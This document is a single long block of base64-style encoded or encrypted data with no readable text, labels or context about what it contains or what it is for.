5dVe9KNcq3Oj1+ugwli38b+6ClnKZOP0pQbq+JPJumAxDLgGkHpp0+vaFwcQQ58B0Uyv18kIj+BOZ6i8mtdkhtpeeyh2hWVd94hTt97z3Ocz/unUgOPWNSv+Fe9ZqcFPjgEXgIcYQBTDcSmvZcWy9sh/NXsRu1QVIR0ql4ciUm3NFmd4N7GlCbsGXVop9wkNmGfpvH2rq/hfohLoQM2XYDSDyPbIVxVxgsRCw022YPgSzyUqG5/gCedEWPNljyTOAgpw/LeK2Ianu+pXB1X8nQthWBbE+8jcC9kRby4P432tpP3G9+NB0VkCA9bHUthaUesQSfS49DTwy49pRN/S7jQcPA00YV4lOk5C0GHnBijWQ9nP0Q0468CFfsHTRsiwkI7RmM2xb+qjaJezddbaZPSTXxqdBrVVcTz2ysJa7T/aDdj1cVsg14rb1dcRN41RmksGgfYKnbYWoxNcHxN40ZjrcF8WICqtpgqW9EpMf5amTes9KW4jMjhrhBeRSozOvoWxPqtQYhmh6kfUzJo5R0VjFDjJtJIJnHyJPzcupURKN1Nb2Cq8omw6MRjXUcNUzzqV9twx57kHeNviUkE9jeJfeg4zl3SPG2ygz5u065Umh8jR4Hvut6RJLijoqszdXDYRec44hx2/Qc51HFHDUVzISWrR7RoeQHiUhJyyqz20L3kFi9n1QDfGzSTlfWiAQe/ImxXD1AHTyD3IGUVeji9NQ8UO29XFHuzWgEgUpnYHGtrCovp5Xhgf5T61qccw5YWtvubHbIpQZwU6cFIRxgqgd73bNxjJ/SYAD2nMwaeiCufJYLNyrFt9JXEKaE2/rg3dP5muMqwF/ElFvKzKp96SFGauKVuYcA2bzTFAGKKtDMjwjHe6stfnTYvuZIHYveTIPE75k5RaRQx6b63nv1zOzDr8R8yNoJr960iuH+ye8Z24+edHItKgB7YkA2xCW8V3/6UKil7Pa7yCwEr9EyheHAnCGbtisPTpkQpE3aMr/UAO3bZpZhf7xSczPMrMkt4Y+/LrO9vhXACGpmJ/0BxcCVoeN9AfiVev2F38cIh67mrJt4u2a4IMY/pKZTjh4CC9y7+edX3LsbS5ivrD/6BEj9nwTjtsO6ugHsJcNHlyIsLH/r3Yx8KxH0vHjjfhkVwnMnCN+YA0qRZddiQ39kzYygOOMNuL7lkS2rfYnm4MmDEY13pOI5UOobrPTELZ75wOQsxdpEDx66ZeSnRBZmEumcvC/odxcCCyOX0LqNKmcwFuiWyvLBHze4gu9eTKJeLmekbjc8tQKX8N7X6kNq0K4B/udaXtyEn8uMVfrZKkKuIkBVHDAu2yh6FbrWljq4Re6Vq+9DCTA/ZICZm+dlvAFwThurBA6MImhFZ/yJZBIuoH62kCrYlNBKQeIMkoP6OvXjYijmI/gw/D8gice6auXRudW6TUTB60ls4YniKou6md6DkfTCxmphiQ7oz4R5qFoym7TlMok/A+ogv58iCgRaWui8+b3XqnEpnQYgG23oLoxixD10+9GHBdfEjFzEBzyyUzR0i03zhKClShU4rMnLCI10Xlen5KGN6j0tR6ZinkeBYWSr6PxUFtiF+jqaTXnoyORw35Y4jKPcA42ZnA57geV0UrZ2g0z8ofHcAqn9iulKUpKk1N14IFtkoC/oM+GXbYskpUxrBlbnzbn/xC+LW3O2Hxk8eQo0GzLH03tnScUdaXN1L8SsCcr4doasTd0aklWw4EeToEoT/i59wvBgZaAVGOHJr1KA2bLMMrQtCGDZQ6Sr+Qql7vIz5NHNOC/wKVr0FqnMlz8+iqN+ot4/zmX+UfZyu2ONOKqf89USFSjv3jppGk/DNFqpPdJyDREao4fEcsRmKlLcCLw6ObHQADGCcb0jt8IVZKK/rjRnXJYaZxTRre2oo4gVhcs3jNilENSTpyhjmqK7tFC6wy2cerezZo6JxsOVcPqLGGWjZrwQI0ftBIMdJ3wmXVUx13adjTj30fenrOWBfvaFBDZ6Zi/q1Z2Yc2pcwwN+FOIlvJpZtxKDruk8U/IzFaASGt3EPIn4EBTQGPvtuiXXoHwnUOGdGWxFyiOhQFUp2G9y78y5Bc4iY7xaHtDeq9L+6YYWtIlzmDjIRuSb+gJGGZdEU+ti4xMVGbVu5+bY3/8HpnVEuvooTRX1Ib04diu28GFOYdnkG53vqRLacZsqRk0h0R87WeYRsNP/4ypsSNcEq/9mqEYA6XMJRkBDKIS+bMqFlT+k1D3oVdKYDJe47kPV011mI5hi9u5MGTKygtmRuOba0dENcWNbTnQ+lTsxr8VO3pDEao0vUw1k3OfqE99fz5DDMOipRhqJz2gV81u3jKko/hNNF6cMcXI8ZLpPpM5UKcav0lHQA9RjUAlXYziyvRYqixdEbBvuEp0+JHuFs8Sc60Vnnsp1udAK4hXnzkEihVIQV+xg1Ndk5kO2FoqAJOh9x5Mr8Rz3C8QUVN0gvK0f5dXyeahXoottlmMN3O2COW1vWCsNT/M6ukrvWrughRT2NXAyLeznetzvcvl+GJv2QZQwZYdQsp4GTbXi0v9oYHpGbakKT9doG+HAQGa90Xek1d5cStx2+JNzo4VnWC8ancFmtRHE+54tlOoE7t1jbBxUgjamIqPKD6bAGHe2dDZsEjrEfEgwPQrojCiDybW0gGsK5Ds3A1b06LbbEzxtkPQKlfGMVfqfJe+be2fQZaf0btzma0Vk8cVTfbO/KV4rB5VNkEQUj2x8WZc0KGiCghYa9P6HBJ30i1eaJWW6GAQHZwimiKT9u1RJPCAHG0IGWdc+CjC8k25iNbspwfpj9fOy+5NUKZ9zL/zBO+aMVwfTkkii/pJas7Db758YG/Vr9ikLK3N0L9Tog5F1eDE1kGRF7qGQ8LSmL8C+fiBkr1lqPGstio57jPDaEcakwvupEWFw7nHNXX9hENrEZ7X1Zmq++zsfZggQyXsLuZUMS84eJsAnSYoAlBcL0GR0cw+libD0jN7vRuJjLa0L2BhK85PpCeNfTktMdatEyJVli3ylbbQbDV+hNy4BqGg/y2UNiBdV9DDrH+782DIfRcxRtcv9r9E34Dd/umY9YfeEf8JYDtYH8L2/ozTdaVRhkrW88hqZ9/o54KgnS61kdEevQUacm+FoLC4r8kquD0AXuu+54q47Y9Cy+YBdAlEw3rGM/VNsgUfdaycKy3mSTr5VRD/M/EyEK35QSmV6cIA/M5cepEaBv90BQ6k/jQP44cKJyQOJKVhfFEY83P2qtHrudmGBM/bo9oqmvVy3c/NBxc2qkIBMMOejYrrAsX7IDQNYZS39mpX+lV1M4zTFX3IAko2kQmWr5KvUcQ1BRb2UQ1eyo99fq+g40AutXfVCKUKMPejoWQiisS6AAykBGlmnpk7kVCcPEgduN3oUX1nRVWtEA5RUXlcTlFbDTEGFo+5RSy93tjpVKHbHy/YhpIrsB4XmXB4FtbouqWYyo3doXDhJCjDno+Y0kigUJjMHHrayoRUzWL3ma5ZkDIHxS83FaYQeASYH1nG5+EfWyIqTGFlJT7umGZ9ja6K7VFsXj4sE7HVguLAoa3qx7bsPz03aDhqiBhQTix5swa9wvmLK0OO9xygnfSdy3gIX9b0eorPRbC3ep32I9r6RKDHpu7aw7/sD8cqC6K4vIQNlG3o85t1w2jSVIHrHZbgLDqdSWaY5C8rHMoPvN+0TjBPRVa+KcM0sN8/CYyh+gUkbcgDm4ohDfp97DDOUkmNjfZwQwr0SaTBGj56raJ8B8JFakx5BHV3/a+Z6NJeqD13tUuEd6KiubGQg4iZguVuPnOLtWwzMAMaO+7ImyY/+CsX3/GUV4zDNK4DLdDBNF3ss+ETEtHVtqZ8Aa5/j5sUmTPYQOycwuZsYxbIb4Mgi/ACjB2CZyBEMcScaEtTaZ70RZEkUnj1ZyuflhrnDcz+in++GsCHbFEm4uuq6vXtf/cxjBAsrvHEtEjUMKYaTXQuK+5UNHbAiSOQAtwyneufC65hh4Fvv5qs+XMLUn6U7j42qkJZHKDfNIGD8LjEneN6K+t0L2E4Op7iHzdWuLmgoG0KyN6odxpmc2w9xbQ6utDLrf0WKxfjPr+PIKrtKMD0QKhqAhJKssev9HdqzlXQhJyA3O3mIrIYu5xapaQ1NY7gzX7HBJXQVdhDDWqpXJA2yieQ53aWAULaCiU4ENoliaAWw4P82RXGL3e0uqG8obhMODI1eM+Gw6Ler4yAfp3e38xLFSN2DybS/EgjVQIZi5ZqdB6DZIKqdRk7Rg2JM1beMAtUEeuTA/c46xaY8C3jC7MA9Oy4NoDmhyuITF3NDremCbTlHUusyGqtT5Kyi0i3EmKCQ0ynrUglw7EXVN9XcTHKcAOmh0tNLFX0afac9U/iGa/+Tl/Gsy1pvqKm96J2W4RvYBoyV3ttxmiZrAN1z19llQBH67j93gRL6hw2x/xl0CNQah5vG521RzOaYWLNQ7u89Iapb9/nKpTWUdOFgL6J7EDKX/Ek9Q56Vc6SYtgJtjq2sQ5ytcRDICXBmw9Ai8L0Qut6s2M1PQBF672OGmXrY8EcUVj5tdoQBv9NYlWv/rNXdiJokZv5nX1W+0T+aZ6nygpol0AV8FbB/t+AXVmHrlc5G3F/5qdl+ghkP2xK/4rwphHFchzKKF9rUyT/SLubk76+7V372YQ/yoPkeNXcv70VwgZ06wFcbZ40PShWLSS9pKHtTr4wkSMDPmMNlMARmNLPIOw7jWXYg8w4yUP//oB0S7swMnssW5DuHTebA++zAjF8FQtr5RxRnT9EuQPMSKyVB0WLn2MS4pVo2B853gUePnBOngJumBA0Mkcqml2xTKmJ3xNvqGy4//9CWUthfUNZYd0GD8Ir22hQEQ39sHn+jS4Fl5au09nWLFtuS6LOzmNH1igDaoALrBba6pasCo/0LACynNo0nh3ENBckqYDtyK/yz1XaxUsditKtOfbNcQrKxpo1G442Nfh+4TFGQWYEmmncr1GjcBfoGQQXbr4U9+++2fhLis9OtZvGHWiDPZFbwKoOSmzGLTMtf0VH89rEEF9SBI1sIKIkX0ma9btuGAnc7Y5/hdLSDi2foO7Z4GrXpfMgIJETZ0ez7SWHIY7TSDntJUEzaSZ0TxOyhDFRXuAp6m+rfoQaaLf6+s3W/BWw6wNrWLC96wm34+UrTMw1hJivZQL0MPlyrG+mk/5i2pZ8QzZfaqVPokXKpmNEcZ9nsuOR1u53ij+H51qzHuMqe8wvaHdap9TpyGNOgzpCU1FTh8B8eis1s9YbT3gvIKqV+/Cjjx/zQEyWcX2KsEtsCs7JyfCk+70GUhSmEaLxCji0csvPO4VHI7Vx50RHhJDXWlDn88U5uuw8plTKxmzkNBRtpTwovyVjPumQCQi/cc1eeDBLzE4Zgn2uDEV5UUVO6dyxfXEx/G0pRBAc5Vue0n9e/grgZX3k4/9GB+pOkCmhqDxpHNSgse7MX4Sg+4CAgJ4Nx1LGGXpw+0Sxafer261f1Faz/6hl3OZt8E/22qQRD6wqqHaBY95yA9k7wx5VIfcDcMrUfYQ3WOsL54ADsdMENXWs95q/hIEaT3hmUh/Kr1R4Up5p6g1Opmbv2tgY9ZdpMZpoRDntusDNJsZ9g2Y1P35aSguP8pT1hL42NqcdPDb2eDC6qSMoq1jDFbUIdsLZ2WtybJfbRN7yYXX+ja0AJcwJxULkdwEBmVFfjAiPGEEqLM1siNV3tpjLqbOrG3eekhtrSYzSJbv7AzcBTbMnG/TpA+iKdcIf6Q4BEZwp2m+SXdFXvjlmxhur9kVarhBnPCZZ/wT5zz+GcYGBil7S9nDkQLGclO43dvP8XhO/xdhl2fkbifhTUHfAp3feC03B8zH0svn6P3PhMkrSURZ8DZzBi6Mu8XI/uAkw2eoE7Ee2JE/Hnr0tzJJFYbArK1G2PdfKjCNkgR5hekwSppmZ7QSwNET0VG78gtKO3gF4V+dfOwvYyE8BcfbKA6AGced0f/u4iv2eVJ1BM46Ndzruts5iAYKe7XX6+j5HIJoA/Q1iH5ZfdpGnre5nedGMjq6IZGL0LoQ+T28G3CcO4yEdG3m8XRy1J2Ff3o2907tcBCRGRuJ4aee+lGVbve+fjnGym+Z+wZE+1OJLhcE9y+nsMY4qSqQcb1+lvGct6haGnTEbF3BMMYr/iuUbMoPB61YSlJtoCXsCuVrVP36owNJxxgmq1k1dYNOh/tp3tTab83sVe8X8oGGSTekif2U31Lwt65ec+7wCImhkPC/MyK3sZXsI2BkVYzCVtLuu8k+Kt3gIn1mTMFucamlPujEXKQGp2ODrMR7cYcF8WZuoWEPe1zSFVoq65Ujaw5nt2VjrbDNNUHbnLjlYrjUsKMfsNGLLEO8KaxLhQKnpuqjouj+3H7cA3kuIKn3K9QniJyiFJXWtmZBw8sVfNlSMk12R0JmDcF4nw/ECsTXksrHUReOVJqNSAgr1JmPGftzPdJj/ASpnAi29KDnZZ9UEQfnlInpXvI9Rt5rzQhDnPTSrBzfBZ/gFMp4Eclwe4CoyvBTSPJyTyoXnd130g7CgEGKyKrXIGdgOUMi5ZcRN5BpFDDdvADM3p/5DmpKDKSAzMwAmhhqnp5Zlk5jowvJ62bL+2cN5XRhI/3CgfjJuypjBKFyKfnr8qNEvCa6KhKCfiIJF++sk9G68807EPkj6St/9SRM5vn5X+Zh/WUxYnSNEI8hzQkUPLA568Ikv3EVumfDeD2SHTJnQVva64S4nJGq+wjOZpEkOf7OpdBm9jLWGAtbSjgJ6m78eXwWxGsv/iCfA98vaQlbIQwUXgyRXU0ezo2KyENiH8vcn6qNbanAwUWSmWhoTr+Ruyp7dlQIrtFIlQ4aCRPwJRI5tEVbgK7yRH4iulc2+bjJ99Tsj7fm40XzygjKxoc8uw/kFubwYpcEvdVjSYHMABZ5YyGM/jsbUprJ+ygLLWoPe0SooF0LlsDoJafRoyLM0xwD9J3k6HoDWBMN/sZ/CFLtXksr6xHTL44NvER96oEfmo1VddHpi/UWyhY74qQB+EOnRAAsXkiK/HLc4oyiX5GJfqxn8wIHQYIjmYIOMIiU3marMZBns3qFSicfrrpSZuB39u8DBWzpTeHurcxsUk+7x+r+Ay+mhPhlJkVskM4wXCGKHsq7n8hJvfa5XlsAN/r/z5ktn0nuod62X7ftQLxEKzNsLiHKvzSdeU3mcKHl4X5+o3jwKVN5pDOl4fyYTeKxA4U3A4BdxcUtJSKqoWJIl7ryMdBJ+nFLFzeyScClcSPvqmx0h4TKgQ/IFLGm5IDDyQHzB6NwRwf4csPptcbH6RP2IQuJ81QMRj22u6ppJoAuKJEyIfH4HQtfjfgDGtPGHNGyKai/IxJTUCEVaZw0bfRyb4esSbph5rwst5o8NFvJKUzoBGu8DSDvCUgIYLlTyAHFiZWhOWPV1kh7Y/eRIPyS3H4DY/Gc8Ws0oB3z67uQwQIgY+n3qz1F00IpZKDgHdsMCQR2lcYbIlm1qQCnKzQfwVQpVhnSfJZFG9jVnl4qv3UYNM4OiP4hdsPT2c3/vq6H/WylsAeAny60qhs8JtOy4sjwf8elgqUbWNbQTMD1+ojAa3BFp3AB5JCu2op8ge2iehM6rkQPwKxrO94uN/bq1YgDxlIJis/GHDDEmvYhxUmQLT6yU5GDZyjDBb0O769nCQI1L2BwA/Eh/ocVcRVSAXiddanJqbbUv7ZNF0Alx2M5x3gfYJRLxnngz4rXpXXnyr37RDfwXTAvR9lFvcC0CH3+4wt14lZBjIiR4z1FX/frOX7QCoVac7xW4+SKtK2InBQ+qhnNf7UtaNXafYzPstLz5+wzIagf7PW1pnN8mvggboAJuPGE9aEowhVm5EUy1LrgLPvRCVeTYzJQb/g+5bR9KVH22ZnviX2axaHaHCZnQ/bYDw8bCHaF9ymu0RGIa2xr1epm83K2XOF/X3SiiivyTF6cvNoNFlFv3T826eoVDRKiH/BsrA0kUBADELnOFVzSZciX39FejtanOZxAQS39LOxAgONTehYU8Z9Lblh44VKze86ID8OhYNI5Xl62J0iccfA908U45WMEkGKUpvG7OqXK1ML2Ny2QmQ3Bd4RnDy4xhmHzcSYz9Fte0gWwe18Ru7HQYZQ/9XWrjQ35t1R/biJYP9PZIerED1nDeNbw8J3JSHhT1Wiyi41fnlwW9IfUSOMdqaIQjPwGdS9ZzixTGAPYbst+shvfY6YA7+ulfwXoBHm92HL+wG0uf+oLRxeL1zUZ6tpX2cUPmpX81oowKhL5GuPgCfXAW33G+sCwElAPmiPZlByU3PgILNz68n1Enx4FQiN3jXlMQgr5/pwDW17paTC02WXyYKzQyZXU2AXzGOhR/I16BZ/hzsT/zbFKutfHkYInhj3jd2ZydU+LlsI35lqq8Y+Tq0pophw8Qbl/maTmLdPw8ELV+LqlhPahlDUbMP0wagrvN53iFuAI3RXfGFivN2+w0AgY2iwnjxzURGxItnd5/dOiQ+srI0vxQgD55AaXm2zz0p+Wex0XEFrnopHxZIeqDl4a0P7ZnsDlb1SHErP5R+G3Cw9DzlOT2IpUsKkpcTDOOGahlddIjyj5/cKZ09X3RYhcctP4LAaIev1Nipjj002W769ZK4RECx+4yQjk4m84IRkRzejd022minjZynBHvDfmio+6ZZibjnXgUV5WQneoJeA9ao7U1m/Gl/t9BjmbYsd1peoBHQf2H81VwwFLRg9z0Lu0jZk44OtiahNG1VFFshcSI18by9wQxFmXQ8N2ResqgKHyTFpS4Z+ONTcSCyxzZiVmfsZFBQSSGd7XkTNVbQ5FA8BIm+ra3rpuWHJLNu/MhKBjuSwetJ4u55ekwEPlOpizKsE9jDG/A8r4r6LxIwuzzw3sG+T5PNg9wHcTESOdqoVVqBfgWW+eLnkzMT1fmjHbENV5pqPFZxpH0RwBaQ398xSQ7aKm0qmzRXre+XRqx64z7smvOlfUox5syDuiEYbqNlIvPv6gkQ4Nq2nhWQNwOMSokjOls9ProD4uSd16KAzE0+C5blmzmQOvJ4evK4hiC3d6qfiD+fWHUI6dy4Y/FfItPaUGUg3WORLHnjYDRPa/wT6z5SOLGTdO+Yo+YRl6mmvadMG6LpUS4BkC6XyywVWeq3tueutWQKulPdRpdR3EAgWKZTEhSGqTcfYvifUQ2y8fHQe9oHvPGL4v5djMJr/v6XjCLWsLALSCU0VI2NeWruOTqNALKUkAs+DkCAkd+cDiYAQI5DZHaNvJodzkG7vK/DtoQkFZNaQsrrklMo9VDHcbxO0epewqme8vaZsh1yv17urC9JnGwHrQVWFx6FEZD4EilGOva4Mfb2U61NxAqjiojZVTL4P6NRHQJBvULvlUs4ZTdoX3a4D0tHTrNBqvuaykgQfuc+2lgosJGTOjDbjsgf/knzkedzUc3Bh07hAPSU0DD+gv/VOLEV4uXBBCW/JD/pP3J6zmm3WH33WOERkVdJRMLH58RhhPXPWVMKKkAzBA6bRyU1OS5GKAdaRCze90yWZD18GiMEDO/hB0KrgLOzIx7GnArMqYUr1TRZxm62jbnaWhdmGj/GfgzrnDNH9jMWdgPshKdGBB/w4ve0YS0YtC0zA/RpdUXVkMTisjpTpKw/nmmi4q09sYLIE+BaQ1EOHBiG6LCwzws5Z2aiJld2HiDXj2bPsmsLe80In/tmbBP8nHiaF4f7UNK4BaAMmycm75xc3Hhx/qyzY9zIRhJWWa/e3jeghIjZw9Mhrp/uwCKD8AO8X0e+I9RfavWHT3e18+kMhXr2z2cCxw5rEhNrOw3cQmWkfBnZHyZWwxpi8Fs2KU+/uOco9c7fQkZpWIiF0qMRKwsYFhOGOA5oLqxT6YnNdMUM2ZqjxrveC5uNm+wf+wvPNJF38j9rIBf+/akvfP/1t2/B1OcuDelfmP/rApC4tC2LFrNcPkUzn9J+q/Fj6UcuOOvgx+U+7zZaubcZ6jG6XxenoLqYnf3pp3icYxb6P44+IB7GipiXj7jNlQWg3xIegWWuRqwAt25YkES4vgHrcZjzsQjIoyN0+yIvjrScK835jwJEHrhRl/Dxy1eFRib9nouvhinGr7LIxUYbwrVO/aiWJrwxh1mers9+LDbNgEKyTN+5FzpiQGZEyWYaPMZ1yTqfOGsWJJArGlrDi9U2vwTImZaG6ZyAKYGVboArPdjaYNku0ITbtrjJXIEFi/xArnV/v/K1XZyzYzHfF1P+ZW2H3RZzMrp59h7wUa683f5XbK6ZSJGYouC0QDkdd3esFi++uhzivEpx0srsZwgjbfj3o6iT++uR/2ukfzCTZRl+epC9VQLXv/9hpCbmKy85Qvx+MYlC6N9aC4PwmzI88P6Fy/pdM9WRsYKU9JqT1XLTC4sLzEpnpcOiDVgF/3pywviXAit79l1pYTbB/46amtsc6Ars0e96rNp5ReKIsVLEgQdUfnpC+4CglA8mo/rDm5Tr7ybUu3K/wxp7P1S0wki8aObS/+Xz5DirfIZZsKm6BSDGG8zQMfZ5leDT1CEU3DNGw2bOco3cxLr+FnXW2/YddVCtJHzLKxBCpIehRGMCniyW1aF7+17b3rxdg48C3/Wj4LgXNALjRH2jtbuEQGgnihhUfr8LDo1POKzcNm1FKhUDtmMeSSW2fldx3mhO2xYI3XDSSmpZdrnDR9HSmIOPv9lmpRlKSEUeTkNCFFyTaXnrVeKwMsh116D+BlSsCkRNIkHE0vAcuaZKmVuE/WHROjbBgkYMPz+QFuHoDsny+qLJtfwH0ir5ZXyThwh9XVJxIgMvKn8c1QB11af6ngtsvL+c3MdLVpvTQW9wqq9pgSVF7n3LQgz7xQaFBJYeZW2sjWidvSGcPZU2NgnbitJszYgj1XNj/SXkE1WIdTNgdkIXZi2JhSFylWMKab0/B0xQ9nd7Lk7curNVanjzrCjUOMF1zmyCj/wpJJUJ3wCIWCoe3EdyhMF9j3AEtTPcEsSOg11SvZkkvmp+/S2VB3FTQVIzMLaeoiKM29e9N8s3C8dRsdBVjyYvB44k1xmX0C9zzMXlRZ05dCpYmZONfAOBbXUgjDkrfOltN7qTM+OiUdp3oi9iYKwKdJ1kD57K/pjgb/Ord/9Dk8ne2zIInqXm5b4COkx6bJgVeJqCf4LyLOfnODhov7mXtJ7YzXw3gn3cYJkMSo7SkpW3kuUSZ8KXlSlNAfsf0MtVSpqaawoSRo+/I8Z5Ed1KEDOmSPN6LFTxnuo3pdRd8KU6VtWdfoGMpkUpn9a+h/61Amd2fwVRcFqDEz7R9Nsis04A064WmgbjBI8R0tbbR3XRpxOYkifzZHLsz37tE7digGXKKqscYgaAgsOrv9dhkzKdsfwXQNt/lixH15beyeNOqEINSYbhrbWMhKgD6japdE+1tOAYaLXrw2vTKnEOxvt2e4ElnXLkM/+V7xElm5Zfh6KLNc7ws1ZeMX3vjqFwkowQgv5ocUPm980k0hyE6lKQGBHSbRf/AEJyoOAWuzbfaqefSlo2enJW9YHaZg2JEQPs5ClQBuzbntLZI1Wcv2j5DdQcyIpAEXnfcKIL+umnk4+EAQPyFfsAa72eHd+GoXLXIkZ5IrXdwpeBXEGq4WCVaIr8CeTNvB3Ryal69H0ZYKzP/uZFiCo5ZEHYXtOZbhMRlY5VglqM+1NjrQRrOpj77l5yFeDzmMYJtyRbQ8ItTfKEcskC8nZkwgOA8ceucg7XMC3j3xyYwBxgJgNjKJ2Xl0zaUHUdxhvhRW9QvqXfhmU9wZLvMqqtRU64+4vivqdhUgY27jbCBForzrWYuaFid/hkWTW+c6d3yoPj5VGsLuIc9xmyGUKIV4//iNbbTQHKggLF17zFjP/NPkA5XxhL/xSPsw3+OGrANHmJJ/LBBYzdzB2gNRaPKv7285sno+CWupHmxgNqmhdegqulAjuhLfRr1x+MzzKK74HPk1A51r8C7vZ5L6ZxbevbxAHVEndDIgj6SQugU06hVfRK8FGh1RGn77rG00s55OmTALcPj74UIHxTJbM6BM6XZQr2i2vFGeVNdChMe14lr7H/VhPtOOIL6JIbkYJApAuPjzYRH/JEuzfFmpEBf10P/xxaiB6PdZomcEuDr5MxesLcWAN9LzcNzR9FgB3FEwajZoqrLHaGgspwIHJUpBzcPQuF5RlxXScmg5FubxI5hn2qBAqZZNSKh88BPWWatIo80Qou+Uk2YF/5sqELdLzBK/WzhBfRsDC2MLz8Ycn0EUBG+PwIhHU//KQcUmbM9TjlbGrdvIp3HtUOSmQFf76l98HAkCvvkMwNVzIiHaZJuGAKM8QMG8KhUln6tCVvkEyqBEaQWTJHUiFfLSv/Wwhkmte1M7i/V38EMmOvg94hLdvhiu+sVJ4cEIq5md+gezE5hukv8tFudQearyOgTYK1uNjTphKVIVAYvEdf+8rAkJfKmx5QJMuy4VuiwVemP4s16LxhlfAhmmvzv8hkjSBLkBdkGtZC7dIcMxBaMjV5T5XsxjMuKT00P29IzfQ1QK3u0owAn2UQqw+1wss1QgBB/BXpTCn4LZFbpXmgugOvHNDl8v4fyK5TaVaG7zsclnlSMk7YudfBdvMQRwNd/N+WLPe9AU5BvIqt8h1iscT2vuDeXV9F5KOeo5X3GaC312yJAK8PPmLEvpUiS8Add6jfnFH2ABEAEH92zM1vXWWwA33UjxFy7chOl6mn8yjiZLbNGF3L6mXrdKHiB/Qjf/dweyy3JhqT6ySMhLp41xhsPEwggE7xxEznHa1L/Qo285236sL+4WvlV7mP+KqMOhytTNUvJS3GkVKJl8tiruAc4+Ug32Rs3LLUoZEAKOdb4pEOc/sX8ZYJQtd5D9ILFwMDoSSKSJrqaR1JaSj1yYqpenAM7oJHAj3GfphYrwxwDX3EdvNfrd6PbhSKM95rMVe97KZ/bRPrPOP0yPHk/MSyVC0f4AJwcHB4AcIVGI1fq4WV6X5RZWsY3LiMSc+zxipD+mBAo0J9qv/YVv+Cj4BXNLf18SqE1hAup3N7ZQf+WMmFSXRjJEXoSfraOGILTsZn+kCM7lhkaSfjamEihCIMVEJEvwwOkE2WVPscvhdTtDcONnyA9pVj1ynn7LwY2C+KvN67A9i/rGA9zXbzWcsijsIAmPdBbbnFbXaRHa72+2Sj/8oDNUGkSgjQyhw6tbaf9x20HoXszo2F5oFOFWmcYEdn4nEtA3h+B+sraheE7/syTUV56gk2vZBv4OLmCK9mFzsn4M4Bh+Zt1X0MIdXCrf9oqLYcGJOczLEHvIpuMz9nBMe5OeK9CPOmZelDbZ80QbAQItcTRW9c7pBU/DCCoCe2vc9E3EbnhEMOvepYgND+7M5k3wzTR/yFQLILrmnd3fvAbna2hxB4uqyxuZLyds0CPkK4V9BCi86rIhQqWT/XygEAmOP9AtmGe+e/4srUC5et1s51Y77fJDIdImHhnx9hPmwewoMA9UfzywdXg0WHdcoyL3Do4J4h0/F6oNaUWMQsewU3WI0N995mTvZq6eQf8X4JdNKAF8oVb2BaUpO3iVSGovt6FcNfffa+444Y2pgMA2fcwXeRF6PILr9lN1o1SISghg3K7TJE0GZUUYB042dHN8TK+gYKclcuSLZwQ0/hmpDCteAUUPyRi9nHUYxSaFqPw4rHByrbUBXxJD+b5m+sQ+JgDZbrVDL339dadbIsP+igC3jE1ylkIvdIzW3L3vzEXr83cUwCXXy0EJhncl+7HqCw813Gf5HQ2BPSFSuGKV906oRn7i6zXu6MyLxNbhJtSzodqYR4yh5Noeoe6wQIDuyxX6A5gpaw+FbHDMTCOyRWoHkO+98wyf54Vy93PrnzJMcBHoCc8tUk0B5CjIfF/9C6DgmHo/dUltX2Lj9RSmP2izEQiW7ufhnBsml+N0XVfh1hAJwsNPpr9VhYz/9wkRmx8WvGoJeYDRgQ99LX+1hDVLLoq7n6wRQizBI6252aPsRhzR1KDhO08QKfpmCyutBL2VlAbb0vA+wiy38f2YjEkvdPTt08qMDvuseG/AQCpeEsDEMUj7RcOTXobY2jGoXxRmg2IdirD0Od8/zqkZ4hhGhaHSVQt1xvUeXI2rlS/Ab+7fTfbDAyyZ0XTTCdiPzXku912mZzzGjIQ/uT4sB/qyjclr9m3Pwdrf1Fdk1WwX+FbJ4ZRZXSW7d6I/Jzgtr1QVxWl/2GQE1Gz7zFUU6vgRrGdAFcm6ibpX6wAuyhrLTRnts6YiL2iTLt4uQo3YUjh+Dx0bG2gmEjj5yMWt+OIp2yan3BZJLurRIaJ+dwkBkCVuTG4QdFKFZtUifg2lf0fGIGM5kJJwDCZDOcy2KQH8X3aK8NphVGnGXll+Q2ZO4AbGZMK8u0+pJphiKK1ouAlPbFV7HbqjEG4H/+0gMneEekNGYdpvnZXd/t1JxlcobQsDVn9PL17f8YsvX/kYIFzWzO5bwxP7Eabeor+WVIW76dRVAOPc4Tdxa60Mw5bhYhRnxTdOrAUR+kvekzl2a+x0fMQbAxfo0jNXBBHuFPEC11Nox53viqKBDd2YL364U6fHOTM94vA9gf1MZ9LQy2Zir8DU/Mw1fGrD2slyPw45ee+439p7YDolRe1tuG6ZMRAlBZE+zBFOXN9W1od4YFoliPj9/6f+Da/hGtqqpdFBHhNGuWyBxpsBjM3IKto7UwG2wya9Sg/Q46p6OtxyAdlrrRrTv/o4Xo9zCDiCuMeLTno8mSW48ghkzvB2oxAcO/CyfabTRvYjpxVNfBDnmo4zfDSv9B/uYvf9bsNQIQMBJuB3fsQL/jEDa6li9wvrkx4T4Gn/xVfhTvXwZDVZbuUQyP6+c4h1K+eKPndt/LVNWwNRmbkB8VTHstLxhiAtTMrqSOR0CGKLLtSPngpzpaIW4Jekayuc74Rb/EHGOUO4nITmNmv3pr9XfevtFP2avUUfr+BVQxlfoG8IAdBoGdyA1sYNpCuVVe20zVrCBs6zaz8vV6SDePH/hJfVpyORaaVhPlE1/bXKiTTKmiCVrPAIGTAKTPksOcfNIlvwVoWLdzEdLNH+MXGTp7FZLO2jXLODxFWpwALF8puKPtf+glpeYk1M1HAeJW80JrfKO9Jyl4An6C8epVdT/W/HghKaTwWOAXFCEFCd4YTKHO8BhZ9HzQlRnVztRlM2YcMyuNYJGGmxOHQUt3h9K6TWc1QaUYetwPgp0iXXIuWUxbkKAryfnwZCFej22VtACErJjbGqfdb2L0iY8OpuxoI6xsq0gyOfafghciY5usNi3EUXB++IjVa0q+GWV5M0Ilt0eaMJYHaQ+57dlHL3ZLYU9GmjScevtYEKLpHkrH7g5+fsxu81YnsxrqPxzvmWNVWQ7PUOT8ryx6l+jK+yPCL+uCs2mtdSf1u5/qqdEvofmUtJFvlrgHhro9WuVC4hYc+BN0L/3Lkn7uFhxT9JSUeF1Hj+SHvGS7V23+hDLpLoZV5zrpEgaA62sZwJR5md3bi15c0kac4EggFUhN9lhY3rp/YJTpG/iuLLe5svfuMpDGheBestH8VskfDfVu9bNlq+6j2FH0xyiFy522HHeNZ7Jf1B6XEdRXL1qexoQ47EGAZyah4mNS+7ijrwc4WvYevNXmVcdEBPQ4xT34fggW1+JZkPta6089fse5dXMKNvrix1AuGAS/UAlwuuoF0FH/X4RbPl78wGrlHwHhYHkUtVNbTHbJn6vScohDe